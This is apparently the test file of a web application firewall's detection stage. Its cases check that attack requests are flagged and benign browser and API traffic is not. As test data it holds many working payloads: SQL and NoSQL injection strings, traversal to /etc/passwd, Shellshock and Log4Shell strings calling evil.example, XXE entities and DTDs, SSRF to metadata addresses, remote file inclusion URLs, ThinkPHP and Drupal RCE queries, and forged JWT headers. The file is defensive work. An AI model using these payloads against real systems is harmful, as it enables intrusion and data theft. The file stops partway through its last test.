"""DetectionStage over parsed requests: locations, location rules, exclusions, bounds, model."""

from __future__ import annotations

import asyncio
import json
import time
from pathlib import Path

import pytest

from apiward.core import Category, Context, Field, RequestView, Source
from apiward.detectors.stage import DetectionStage, load_model
from apiward.errors import ModelError
from apiward.http.parse import build_request_view
from apiward.settings import DetectionSettings, Exclusion, LimitSettings

LIMITS = LimitSettings()
BROWSER = [
    ("host", "shop.example"),
    ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"),
    ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("accept-language", "en-US,en;q=0.9"),
    ("accept-encoding", "gzip, deflate, br"),
    ("sec-ch-ua", '"Google Chrome";v="126", "Not)A;Brand";v="8", "Chromium";v="126"'),
    ("referer", "https://shop.example/search?q=shoes&page=2"),
    ("cookie", "sid=6f1c0e0b9a7d4c1f8e2b; _ga=GA1.2.1882597406.1723469780; prefs=%7B%22lang%22%3A%22en%22%2C%22cart%22%3A%5B1%2C2%5D%7D"),
]


def request(
    method: str = "GET",
    path: str = "/",
    query: str = "",
    headers: list[tuple[str, str]] | None = None,
    body: bytes = b"",
) -> RequestView:
    return build_request_view(method, path, query, headers if headers is not None else BROWSER, "127.0.0.1", body, LIMITS)


def stage(**overrides: object) -> DetectionStage:
    return DetectionStage(DetectionSettings(use_model=False, **overrides), None)  # type: ignore[arg-type]


def blocking(findings: list) -> dict[str, Category]:
    return {f.location: f.category for f in findings if f.score >= 0.5}


def test_benign_browser_request_has_no_findings() -> None:
    view = request(path="/products/42", query="color=red&size=M&q=O%27Brien+select+your+size")
    assert blocking(stage().findings(view)) == {}


def test_api_sdk_request_with_few_headers_has_no_findings() -> None:
    headers = [("content-type", "application/json"), ("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig")]
    body = json.dumps({"email": "jane+shop@example.com", "note": "drop me a line", "next": "https://shop.example/a?b=c"})
    assert blocking(stage().findings(request("POST", "/api/orders", headers=headers, body=body.encode()))) == {}


def test_odd_user_agent_alone_is_not_evidence() -> None:
    headers = [("user-agent", "curl/8.4.0"), ("x-custom", "1")]
    assert stage().findings(request(headers=headers)) == []
    assert stage().findings(request(headers=[])) == []


def test_query_attack_is_located() -> None:
    found = blocking(stage().findings(request(query="id=1%27%20or%20%271%27%3D%271")))
    assert found == {"query.id": Category.SQLI}


@pytest.mark.parametrize(
    ("query", "flagged"),
    [
        ("id=1%0cunion%0cselect%0c1,2", True),  # form feeds as spaces: 15 % of the value
        ("id=1%27%0Band%0Bsleep(5)%23", True),  # vertical tabs as spaces
        ("id=1%01union%02select%031,2", True),  # SQL Server reads 0x01-0x1f as spaces
        ("id=%27%01or%011=1--", True),
        ("id=%27%01or%011=1--%C3%A9", True),  # one letter beyond ASCII does not make it binary
        ("id=1%01union%01select%01password%01from%01users%C3%A9", True),
        ("id=1%a0union%a0select%a01,2", True),  # a raw latin-1 no-break space, no UTF-8: U+FFFD
        ("id=%27%a0or%a01=1--", True),
        ("blob=%ff%feor%fd%fc%fb%fa%f9%f8", False),  # a word between undecodable bytes alone is no SQL
        ("id=%0c%0b%0c%0b", False),  # blank with odd spaces: nothing to read
        ("blob=%01%02%03%04%05%06%07%08abcdefgh", False),  # binary: still skipped, nothing flagged
    ],
)
def test_control_character_spaces_are_text_not_binary(query: str, flagged: bool) -> None:
    """A short payload spaced with \\x0b or \\x0c, or with any control character between
    words, is text that SQL and shells read as spaced words; counting them as binary characters
    left it uninspected."""
    found = blocking(stage().findings(request(query=query)))
    assert bool(found) is flagged, found


@pytest.mark.parametrize(
    ("query", "flagged"),
    [
        ("file=..%c0%2f..%c0%2fetc%c0%2fpasswd", True),  # a lone overlong lead byte: U+FFFD after each ".."
        ("file=..%c0%qf..%c0%qfetc%c0%qfpasswd", True),
        ("file=..%f8%80%80%80%af..%f8%80%80%80%afetc/passwd", True),  # 5-byte form: five U+FFFD
        ("file=/..%00/..%00/etc/passwd", True),
        ("file=%e0%40%ae%e0%40%ae/%e0%40%ae%e0%40%ae/etc/passwd", True),  # U+FFFD-heavy, ends in a proof file
        ("file=%c0%2e%c0%2e/%c0%2e%c0%2e/%c0%2e%c0%2e/boot.ini", True),
        ("file=%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2f%c0%2e%c0%2e%c0%2fapp/settings.yml", True),
        ("file=.%00./", True),  # a NUL between the two dots of a step, alone
        ("file=%c0%2e%c0%2e%5C%c0%2e%c0%2e%5C%c0%2e%c0%2e%5C", True),  # U+FFFD before each dot, backslashes
        ("file=0x2e0x2e0x2f0x2e0x2e0x2fetc0x2fpasswd", True),  # letters and digits only: past the plain fast path
        ("u=gopher://127.0.0.1:3306/_%a3%00%00%01%85%a6%ff%01%00%00%00%01%21%00%00%00", True),  # a MySQL packet's bytes
        ("blob=..%ff%fe%fd%fc%fb%fa%f9%f8%f7%f6%f5%f4%f3%f2", False),  # binary that starts with dots
        ("blob=%ff.%fe%fd%fc%fb%fa%f9%f8%f7%f6%f5%f4%f3%f2%f1%f0%ef", False),  # a dot inside binary
    ],
)
def test_malformed_parent_steps_are_text_not_binary(query: str, flagged: bool) -> None:
    """The undecodable or NUL bytes of a malformed parent step stand right after its dots; in a
    short path they were more than 10 % of the value, which went uninspected as binary."""
    found = blocking(stage().findings(request(query=query)))
    assert bool(found) is flagged, found


@pytest.mark.parametrize(
    ("value", "binary"),
    [
        ("\ufffd.\ufffd\ufffd.\ufffd\ufffd.a\ufffd.\ufffd\ufffd.b\ufffd.\ufffd\ufffd.\ufffd\ufffd.c\ufffd.", True),
        ("\ufffd.a\ufffd\ufffd.b\ufffd.c\ufffd\ufffd.d\ufffd\ufffd.e\x07.f", True),  # beside single dots: no step
        ("..\ufffd/..\ufffd/etc\ufffdpasswd", False),  # after both dots
        ("\ufffd.\ufffd./\ufffd.\ufffd./\ufffd.\ufffd./boot.in", False),  # one before each of two dots
        ("/..\x00/..\x00/..\x00/var/www", False),
        (".\x00./", False),  # between the two dots of a step
        ("\ufffd.\x00.a\ufffd\ufffd.b\ufffd\ufffd", True),  # a NUL between dots, no slash after
    ],
)
def test_only_a_step_shape_makes_odd_bytes_text(value: str, binary: bool) -> None:
    """Random binary has dots and, about every other byte, undecodable ones: an odd byte beside a
    dot is no malformed step, only one after "..", or one before each of two dots in a row."""
    from apiward.detectors.stage import _binary

    assert _binary(value) is binary


_XXE = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("\xff\xfe" + "\x00".join(_XXE) + "\x00", True),  # UTF-16LE with its byte-order mark
        ("\x00" + "\x00".join(_XXE), True),  # UTF-16BE without one
        ("\xff\xfe" + "\x00".join("<r>order 42, size M</r>") + "\x00", False),  # a harmless UTF-16 document
    ],
)
def test_utf16_text_is_read_not_skipped_as_binary(value: str, flagged: bool) -> None:
    """An XML document declared UTF-16 (a NUL beside every character as bytes) hides its DOCTYPE
    from a filter that skips binary; normalisation drops the NULs, the analysers read the rest."""
    from apiward.detectors.stage import _binary

    assert _binary(value) is False
    body = json.dumps({"doc": value}).encode()
    headers = [("host", "shop.example"), ("content-type", "application/json")]
    found = blocking(stage().findings(request("POST", "/api", headers=headers, body=body)))
    assert bool(found) is flagged, found


def test_shellshock_in_a_header() -> None:
    headers = [*BROWSER, ("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")]
    found = stage().findings(request(headers=headers))
    assert any(f.location == "header.user-agent" and f.category is Category.SHELLSHOCK for f in found)


def test_log4shell_in_a_custom_header() -> None:
    headers = [*BROWSER, ("x-api-version", "${${lower:j}ndi:ldap://evil.example/a}")]
    found = blocking(stage().findings(request(headers=headers)))
    assert found.get("header.x-api-version") is Category.LOG4SHELL


def test_nosql_operator_key_in_json_and_query() -> None:
    body = json.dumps({"user": "admin", "password": {"$ne": None}}).encode()
    headers = [("content-type", "application/json")]
    found = stage().findings(request("POST", "/login", headers=headers, body=body))
    assert any(f.category is Category.NOSQLI for f in found if f.score >= 0.5)
    found = stage().findings(request(query="user=admin&password[$ne]=x", headers=[]))
    assert any(f.category is Category.NOSQLI and f.score >= 0.5 for f in found)


@pytest.mark.parametrize(
    ("query", "blocked"),
    [
        ("q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id", True),
        ("mail[%23lazy_builder][0]=shell_exec&mail[%23lazy_builder][1][]=id", True),
        ("filter[tags][]=post_render&section=process", False),  # the words as values, no render property
    ],
)
def test_a_render_array_callback_in_a_parameter_name(query: str, blocked: bool) -> None:
    """Drupal turns "name[#post_render][]" into a render-array property whose callback it calls."""
    found = blocking(stage().findings(request(query=query)))
    assert (Category.CMDI in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("query", "blocked"),
    [("id=1;select", True), ("id=1%3Bdrop--", True), ("page=5;%20waitfor", True),
     ("ids=1;2;3", False), ("v=1;selection", False), ("q=3;%20update%20me%20later", False)],
)
def test_an_id_and_a_second_statements_first_word_is_the_stacked_probe(query: str, blocked: bool) -> None:
    found = blocking(stage().findings(request(query=query)))
    assert (Category.SQLI in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("query", "blocked"),
    [
        # Socrata's open-data API: SoQL in "$where"
        ("$where=created_date%20between%20%272024-03-01%27%20and%20%272024-03-31%27&$limit=10", False),
        ("$where=magnitude%20%3E%203.0&$order=time%20DESC", False),
        # a MongoDB $where: JavaScript
        ("$where=this.password.match(/%5Ea/)", True),
        ("$where=1%3D%3D1", True),
        ("$where=sleep(100)", True),
        ("user[$where]=1", True),
    ],
)
def test_a_where_parameter_is_soql_unless_it_is_javascript(query: str, blocked: bool) -> None:
    found = blocking(stage().findings(request(query=query)))
    assert (Category.NOSQLI in found.values() or Category.SQLI in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("query", "blocked"),
    [
        ("s=index/think%5Capp/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=-1", True),
        ("s=whoami&_method=__construct&method=POST&filter[]=system", True),
        ("theme=system&function=search&filter=md5&mode=exec", False),
    ],
)
def test_thinkphps_dispatcher_handed_a_php_function(query: str, blocked: bool) -> None:
    found = blocking(stage().findings(request(query=query)))
    assert (Category.CMDI in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("query", "blocked"),
    [
        # a web shell's command parameter given a first reconnaissance command
        ("pwd=j&cmd=id", True),
        ("cmd=whoami", True),
        ("exec=uname%20-a", True),
        # the same names as an application's action parameters
        ("cmd=saveProject", False),
        ("cmd=getThemes&id=7", False),
        ("exec=not_bot", False),
        ("q=whoami", False),  # the command's name searched for
    ],
)
def test_a_shell_parameter_given_a_reconnaissance_command(query: str, blocked: bool) -> None:
    found = blocking(stage().findings(request(query=query)))
    assert (Category.CMDI in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("query", "blocked"),
    [
        # lookups that leak, secret fields, a walk through relations
        ("username__startswith=p", True),
        ("email__iendswith=example.com", True),
        ("data__has_key=is_admin", True),
        ("user__profile__icontains=x", True),
        ("user__password__regex=%5Ea", True),
        ("owner__is_superuser=1", True),
        ("user[password__startswith]=a", True),
        # Django admin's and django-filter's list filters on a model's own fields
        ("status__exact=submitted", False),
        ("price__gte=10&price__lte=50", False),
        ("created__year=2024", False),
        ("author__id__exact=5", False),
        ("filter[author__id__exact]=5", False),
        ("name__icontains=blue", False),
    ],
)
def test_orm_lookups_that_probe_not_filter(query: str, blocked: bool) -> None:
    found = blocking(stage().findings(request(query=query)))
    assert (Category.NOSQLI in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("body", "blocked"),
    [
        # JSF's and Struts 1's own parameters, named by their package
        (b"javax.faces.partial.ajax=true&javax.faces.source=form%3Atable&javax.faces.partial.execute=form%3Atable"
         b"&javax.faces.ViewState=-123%3A456", False),
        (b"method=search&lastName=Kowalczyk&org.apache.struts.taglib.html.TOKEN=d164b2b2e1b54af65ac332fc162c1e95", False),
        # a gadget class as a parameter's name
        (b"java.lang.Runtime=x", True),
        (b"javax.naming.InitialContext=x", True),
    ],
)
def test_a_frameworks_own_parameter_names_are_no_gadget(body: bytes, blocked: bool) -> None:
    form = [*BROWSER, ("content-type", "application/x-www-form-urlencoded")]
    found = blocking(stage().findings(request("POST", "/app/claims/list.xhtml", headers=form, body=body)))
    assert (Category.SSTI in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("path", "blocked"),
    [
        # a quoted argument of an addressing function, slashes inside it (SharePoint's REST API)
        ("/sites/hr/_api/web/GetFolderByServerRelativeUrl('/sites/hr/Shared%20Documents/Onboarding')/Files", False),
        ("/files/report')", True),  # the probe: a quote closed that nothing opened
    ],
)
def test_a_quoted_function_argument_across_path_segments(path: str, blocked: bool) -> None:
    found = blocking(stage().findings(request(path=path)))
    assert (Category.SQLI in found.values()) is blocked, found


def _jwt(header: dict[str, object], signature: str = "c2lnbmF0dXJl") -> str:
    import base64

    def part(obj: dict[str, object]) -> str:
        return base64.urlsafe_b64encode(json.dumps(obj).encode()).decode().rstrip("=")

    return f"{part(header)}.{part({'sub': '1042', 'role': 'user', 'iat': 1718172110})}.{signature}"


@pytest.mark.parametrize(
    ("header", "category"),
    [
        ({"alg": "none", "typ": "JWT"}, Category.AUTHN),  # unsigned: trusted as it is
        ({"alg": "NONE"}, Category.AUTHN),
        ({"alg": "HS256", "kid": "../../../../../../dev/null"}, Category.TRAVERSAL),  # the key read from a file
        ({"alg": "HS256", "kid": "key1' UNION SELECT 'secret'-- -"}, Category.SQLI),  # or a database row
        ({"alg": "RS256", "kid": "a4248717a0cba5e6", "typ": "JWT"}, None),
        ({"alg": "ES256", "kid": "2024-05-signing/key-1"}, None),
        # a key set's URL the server fetches: an internal one is SSRF, the issuer's own is not
        ({"alg": "RS256", "jku": "http://169.254.169.254/latest/meta-data/"}, Category.SSRF),
        ({"alg": "RS256", "x5u": "http://127.0.0.1:8500/v1/kv/cert.pem"}, Category.SSRF),
        ({"alg": "RS256", "jku": "https://login.example.com/.well-known/jwks.json"}, None),
    ],
)
def test_a_bearer_jwts_header_is_read(header: dict[str, object], category: Category | None) -> None:
    token = _jwt(header, "" if header.get("alg", "").lower() == "none" else "c2lnbmF0dXJl")  # type: ignore[union-attr]
    found = blocking(stage().findings(request(path="/api/v1/me", headers=[*BROWSER, ("authorization", f"Bearer {token}")])))
    assert (set(found.values()) == {category}) if category else not found, found
    # the same token kept in a session cookie (an unsigned one is logged there, not blocked: some
    # sites set one themselves for a guest session and see it on every request)
    cookie = [(k, v) for k, v in BROWSER if k != "cookie"] + [("cookie", f"sid=6f1c0e0b9a7d4c1f8e2b; session={token}")]
    findings = stage().findings(request(path="/api/v1/me", headers=cookie))
    in_cookie = None if category is Category.AUTHN else category
    assert (set(blocking(findings).values()) == {in_cookie}) if in_cookie else not blocking(findings), findings
    if category is Category.AUTHN:
        assert [f.rule for f in findings] == ["authn.jwt-unsigned"]


@pytest.mark.parametrize(
    ("header", "blocked"),
    [
        (("x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware"), True),
        (("x-middleware-prefetch", "1"), False),  # what Next.js's own client sends when it prefetches
    ],
)
def test_a_frameworks_internal_header_sent_by_a_client(header: tuple[str, str], blocked: bool) -> None:
    found = blocking(stage().findings(request(headers=[*BROWSER, header])))
    assert (Category.PROTOCOL in found.values()) is blocked, found


@pytest.mark.parametrize(
    ("path", "blocked"),
    [
        ("/actuator/env", True),
        ("/actuator/heapdump", True),
        ("/api/actuator/gateway/routes", True),
        ("/actuator/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator", True),
        # what monitoring reads
        ("/actuator/health", False),
        ("/actuator/prometheus", False),
        ("/actuator/info", False),
        ("/docs/actuator/environment-variables", False),
    ],
)
def test_actuator_endpoints_that_leak_or_control_the_process(path: str, blocked: bool) -> None:
    found = blocking(stage().findings(request(path=path)))
    assert (Category.TRAVERSAL in found.values()) is blocked, found


FILTER_PARAMETERS = [
    # a list API's filters (Strapi, JSON:API): a named field compared with a scalar
    ("filters[price][$gte]=10&filters[price][$lte]=50&sort=price:asc", False),
    ("filters[slug][$eq]=my-first-post&populate=*", False),
    ("filters[date][$gte]=2024-01-01", False),
    ("filters[tags][$all]=vip&filters[tags][$size]=2", False),
    # a login's operator, a filter's empty or code value, an operator that runs code or a pattern,
    # an operator with no field before it
    ("user=admin&password[$ne]=x", True),
    ("filters[password][$ne]=", True),
    ("filters[price][$regex]=.*", True),
    ("filters[price][$where]=1", True),
    ("filters[$ne]=x", True),
    ("filters[price][$gt]={}", True),
]


@pytest.mark.parametrize(("query", "flagged"), FILTER_PARAMETERS)
def test_filter_parameters_compare_named_fields(query: str, flagged: bool) -> None:
    found = stage().findings(request(path="/api/products", query=query, headers=[]))
    assert any(f.category is Category.NOSQLI and f.score >= 0.5 for f in found) is flagged, found


MONGO_OBJECTS_IN_A_VALUE = [
    ('{"$size":0}', True),
    ('{"$jsonSchema":{}}', True),
    ('{"$type":2}', True),
    ('{"$mod":[1,0]}', True),
    ('{"$all":[]}', True),
    ('[{"$match":{}}]', True),
    ('{"$inc":{"balance":1000}}', True),
    ('{"$push":{"roles":"admin"}}', True),
    ('{"$rename":{"a":"b"}}', True),
    ('{"user":{"$size":1}}', True),
    # analytics profile updates (PostHog, Mixpanel), Json.NET and JSON Schema keys, Strapi-style equality
    ('{"$set":{"name":"x"},"$set_once":{"a":1}}', False),
    ('{"$unset":["plan"]}', False),
    ('{"$type":"MyApp.Models.Order, MyApp","id":1}', False),
    ('{"$schema":"http://json-schema.org/draft-07/schema#","type":"object"}', False),
    ('{"$os":"Windows","$browser":"Chrome"}', False),
    ('{"status":{"$in":["open","closed"]}}', False),
    ('{"count":{"$size":"large"}}', False),
]


@pytest.mark.parametrize(("text", "flagged"), MONGO_OBJECTS_IN_A_VALUE)
def test_mongo_operator_object_inside_a_json_text_value(text: str, flagged: bool) -> None:
    """A parameter or JSON string that holds JSON text is read leaf by leaf, so the operator is a
    key in the leaf's name ("query.q.$size"); the same rule holds for a query parameter, a JSON
    string leaf and a form field."""
    from urllib.parse import quote

    views = [
        request(query="q=" + quote(text, safe=""), headers=[]),
        request("POST", "/orders", headers=[("content-type", "application/json")],
                body=json.dumps({"note": text}).encode()),
        request("POST", "/login", headers=[("content-type", "application/x-www-form-urlencoded")],
                body=("user=" + quote(text, safe="")).encode()),
    ]
    for view in views:
        found = stage().findings(view)
        assert any(f.category is Category.NOSQLI and f.score >= 0.5 for f in found) is flagged, (text, found)


def test_traversal_in_a_multipart_file_name_and_upload_extension() -> None:
    body = (
        b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../shell.php\"\r\n"
        b"Content-Type: text/plain\r\n\r\nhello\r\n--b--\r\n"
    )
    headers = [("content-type", "multipart/form-data; boundary=b")]
    found = stage().findings(request("POST", "/upload", headers=headers, body=body))
    categories = {f.category for f in found if f.score >= 0.5}
    assert Category.TRAVERSAL in categories


@pytest.mark.parametrize(
    ("header", "name", "flagged"),
    [
        ("x-file-name", "fda.php5", True),
        ("x-filename", "dangerous.phar", True),
        ("x-filename", "holiday.php.jpg", True),
        ("x-filename", "sess_d8ew88tqmabdcokhumchy8htqm", True),
        ("x-filename", "holiday.photo.jpg", False),
        ("x-filename", "report-2024.pdf", False),
        ("x-filename", "session_notes.txt", False),
    ],
)
def test_upload_file_name_headers_even_when_plain(header: str, name: str, flagged: bool) -> None:
    found = stage().findings(request("PUT", "/upload", headers=[*BROWSER, (header, name)]))
    assert (f"header.{header}" in blocking(found)) is flagged


@pytest.mark.parametrize(
    ("content", "blocked"),
    [(b"Pineapple. Pizza.\nSecond line.", False), (b"x' UNION SELECT password FROM users--", True)],
)
def test_a_multipart_body_with_bare_lf_line_endings_is_judged_by_its_fields(content: bytes, blocked: bool) -> None:
    """PHP and Go read such a body; its part headers are not a header injection."""
    body = (
        b"--b\nContent-Disposition: form-data; name=\"note\"\nContent-Type: text/plain; charset=utf-8\n\n"
        + content + b"\n--b\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\n\nhello\n--b--\n"
    )
    headers = [*BROWSER, ("content-type", "multipart/form-data; boundary=b")]
    found = blocking(stage().findings(request("POST", "/upload", headers=headers, body=body)))
    assert "body" not in found
    assert ("body.note" in found) is blocked


def test_script_hidden_before_an_image_extension_in_multipart() -> None:
    body = (
        b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"test. php.jpg\"\r\n"
        b"Content-Type: image/jpeg\r\n\r\nhello\r\n--b--\r\n"
    )
    headers = [("content-type", "multipart/form-data; boundary=b")]
    found = stage().findings(request("POST", "/upload", headers=headers, body=body))
    assert Category.CMDI in {f.category for f in found if f.score >= 0.5}


def test_xxe_on_the_raw_xml_body() -> None:
    body = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    found = stage().findings(request("POST", "/api/xml", headers=[("content-type", "application/xml")], body=body))
    assert any(f.category is Category.XXE and f.score >= 0.9 for f in found)


def test_xxe_fragment_as_the_raw_xml_body() -> None:
    # the end of an injected subset or parameter-entity references alone as the document
    for body in (b"%xxe;]>", b"]><foo>&xxe;</foo>"):
        found = stage().findings(request("POST", "/api/xml", headers=[("content-type", "application/xml")], body=body))
        assert any(f.category is Category.XXE and f.score >= 0.5 for f in found), body


def test_w3c_doctype_of_an_html_mail_passes() -> None:
    body = (b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
            b'"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html><body><p>Hi</p></body></html>')
    found = stage().findings(request("POST", "/api/mail", headers=[("content-type", "text/html")], body=body))
    assert not any(f.category is Category.XXE and f.score >= 0.5 for f in found)


@pytest.mark.parametrize(
    ("system_id", "blocked"),
    [("http://www.apple.com/DTDs/PropertyList-1.0.dtd", False), ("http://evil.example/x.dtd", True)],
)
def test_apples_property_list_doctype_passes_with_its_own_dtd_only(system_id: str, blocked: bool) -> None:
    body = (f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "{system_id}">\n'
            '<plist version="1.0"><dict><key>CFBundleName</key><string>MyApp</string></dict></plist>').encode()
    found = stage().findings(request("POST", "/api/profiles", headers=[("content-type", "application/xml")], body=body))
    assert any(f.category is Category.XXE and f.score >= 0.5 for f in found) is blocked


@pytest.mark.parametrize(
    ("doctype", "blocked"),
    [
        ('<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" "http://mybatis.org/dtd/mybatis-3-mapper.dtd">', False),
        ('<!DOCTYPE properties SYSTEM "http://java.sun.com/dtd/properties.dtd">', False),
        ('<!DOCTYPE note SYSTEM "note.dtd">', False),  # a file beside the document
        ('<!DOCTYPE note SYSTEM "http://attacker.example/evil.dtd">', True),
        ('<!DOCTYPE note PUBLIC "-//x//y//EN" "http://w3.org.attacker.example/e.dtd">', True),
        ('<!DOCTYPE note SYSTEM "file:///etc/passwd">', True),
        ('<!DOCTYPE note SYSTEM "../../uploads/evil.dtd">', True),
        ('<!DOCTYPE note SYSTEM "note.dtd" [<!ENTITY x SYSTEM "file:///etc/passwd">]>', True),
    ],
)
def test_a_standards_doctype_passes_an_attackers_does_not(doctype: str, blocked: bool) -> None:
    body = f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n<note><to>Tove</to><body>Reminder</body></note>'.encode()
    found = stage().findings(request("POST", "/api/import", headers=[("content-type", "application/xml")], body=body))
    assert any(f.category is Category.XXE and f.score >= 0.5 for f in found) is blocked


@pytest.mark.parametrize(
    ("location", "blocked"),
    [
        ("http://www.topografix.com/GPX/1/1 http://www.topografix.com/GPX/11.xsd", False),  # the namespace's own host
        ("http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd", False),
        ("http://www.topografix.com/GPX/1/1 gpx.xsd", False),  # a file beside the document
        ("http://www.opengis.net/kml/2.2 http://schemas.opengis.net/kml/2.2.0/ogckml22.xsd", False),  # the same site
        ("http://www.topografix.com/GPX/1/1 http://topografix.com.oast.example/gpx.xsd", True),
        ("http://x.oastify.com/ns http://x.oastify.com/a.xsd", True),  # a testing tool's callback, whatever the namespace
        ("http://203.0.113.7/ns http://203.0.113.7/a.xsd", True),
        ("http://0xcb007107/ns http://0xcb007107/a.xsd", True),  # the same address in another notation
        ("http://a.b/ http://c5ipg3yqo8lcutvn8bghsptoff.oast.example/aai.xsd", True),  # another host: fetched from the attacker
    ],
)
@pytest.mark.parametrize("carrier", ["json", "xml"])
def test_a_schema_location_on_its_namespaces_host_passes(location: str, blocked: bool, carrier: str) -> None:
    # an uploaded track, as the XML body or carried in a JSON field as a web front-end sends it
    document = (f'<?xml version="1.0"?><gpx version="1.1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                f'xsi:schemaLocation="{location}"><trk><name>Ride</name></trk></gpx>')
    if carrier == "json":
        body, ctype = json.dumps({"name": "Ride", "gpx": document}).encode(), "application/json"
    else:
        body, ctype = document.encode(), "application/gpx+xml"
    found = stage().findings(request("POST", "/upload", headers=[("content-type", ctype)], body=body))
    assert any(f.category is Category.XXE and f.score >= 0.5 for f in found) is blocked


def test_ssrf_not_judged_in_referer_but_in_a_parameter() -> None:
    headers = [*BROWSER, ("referer", "http://127.0.0.1:3000/dev")]
    assert blocking(stage().findings(request(headers=headers))) == {}
    found = blocking(stage().findings(request(query="url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F")))
    assert found == {"query.url": Category.SSRF}


@pytest.mark.parametrize(
    ("query", "flagged"),
    [
        ("_CONF[path]=https://evil.example", True),  # a remote URL as an include directory
        ("mosConfig_absolute_path=http://evil.example/", True),
        ("module_dir=ftp://198.51.100.7/", True),
        ("x=http://evil.example/shell.txt%3F", True),  # "?" cuts the application's appended ".php"
        ("x=http://evil.example/x.php%2500", True),  # so does a NUL
        ("url=https://evil.example/", False),  # URLs in parameters are ordinary
        ("redirect=https://shop.example/cart?step=2", False),
        ("callback_path=https://shop.example/cb", False),
        ("next=https://shop.example/?", False),
        ("image=https://cdn.example/a.png%3Fw%3D100", False),
        ("file=https://cdn.example/report.pdf", False),
        ("path=/account/orders", False),
        ("path=https://shop.example/women", False),  # analytics name the page URL "path"
        ("cb=https://cdn.example/pixel.gif%3F", False),
    ],
)
def test_remote_file_inclusion_by_parameter_and_suffix(query: str, flagged: bool) -> None:
    found = blocking(stage().findings(request(path="/index.php", query=query)))
    assert (found.get(f"query.{query.split('=', 1)[0]}") is Category.SSRF) is flagged, found


@pytest.mark.parametrize(
    ("cookie", "flagged"),
    [
        ("pref=http%3A%2F%2Fevil.example%2Fraw%2Fx1y2%2500", True),  # sent percent-encoded, cut with a NUL
        ("pref=%2F%2Fevil.example%2Fx%2500", True),  # scheme-relative
        ("pref=https%3A%2F%2Fshop.example%2Fcart", False),  # a page URL remembered in a cookie
        ("ref=%2F%2Fshop.example%2Fwomen%3Fpage%3D2", False),
    ],
)
def test_remote_file_inclusion_in_a_percent_encoded_cookie(cookie: str, flagged: bool) -> None:
    headers = [(k, v) for k, v in BROWSER if k != "cookie"] + [("cookie", cookie)]
    found = blocking(stage().findings(request(headers=headers)))
    assert (found.get(f"cookie.{cookie.split('=', 1)[0]}") is Category.SSRF) is flagged, found


def test_scheme_relative_remote_url_cut_with_a_nul() -> None:
    found = blocking(stage().findings(request(path="/index.php", query="page=//evil.example/x%2500")))
    assert found.get("query.page") is Category.SSRF, found


def test_evidence_is_short_and_redacted() -> None:
    secret = "sk_live_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4"
    found = stage().findings(request(query=f"q={secret}%27%20union%20select%20password%20from%20users--"))
    assert found
    for finding in found:
        assert len(finding.evidence) <= 80
        assert secret not in finding.evidence


def test_truncated_values_say_so() -> None:
    value = "a" * 40_000 + "<script>alert(1)</script>"
    view = RequestView("POST", "/", "/", "", (), "127.0.0.1", fields=(Field(Source.BODY, "comment", value),))
    found = stage().findings(view)
    xss = [f for f in found if f.category is Category.XSS]
    assert xss and "head+tail" in xss[0].evidence and len(xss[0].evidence) <= 80


def test_exclusions_by_route_location_and_category() -> None:
    view = request(path="/cms/pages", query="html=%3Cscript%3Ealert(1)%3C/script%3E")
    assert blocking(stage().findings(view))
    excluded = stage(exclusions=(Exclusion(route="/cms/*", location="query.html", categories=(Category.XSS,)),))
    assert blocking(excluded.findings(view)) == {}
    other_category = stage(exclusions=(Exclusion(route="/cms/*", location="query.html", categories=(Category.SQLI,)),))
    assert blocking(other_category.findings(view))
    other_route = stage(exclusions=(Exclusion(route="/api/*", location="*"),))
    assert blocking(other_route.findings(view))
    # a parameter's exclusion covers the leaves of the JSON document it holds, not its namesakes
    doc = request(path="/cms/pages", query="html=%7B%22body%22%3A%22%3Cscript%3Ealert(1)%3C/script%3E%22%7D")
    assert blocking(stage().findings(doc)) == {"query.html.body": Category.XSS}
    assert blocking(excluded.findings(doc)) == {}
    namesake = request(path="/cms/pages", query="htmlx=%3Cscript%3Ealert(1)%3C/script%3E")
    assert blocking(excluded.findings(namesake))


def test_inspect_is_the_async_face_of_findings() -> None:
    view = request(query="q=%3Csvg%20onload%3Dalert(1)%3E")
    found = asyncio.run(stage().inspect(view, Context(request_id="r1")))
    assert [f.category for f in found if f.score >= 0.5] == [Category.XSS]


def test_ten_thousand_fields_in_bounded_time() -> None:
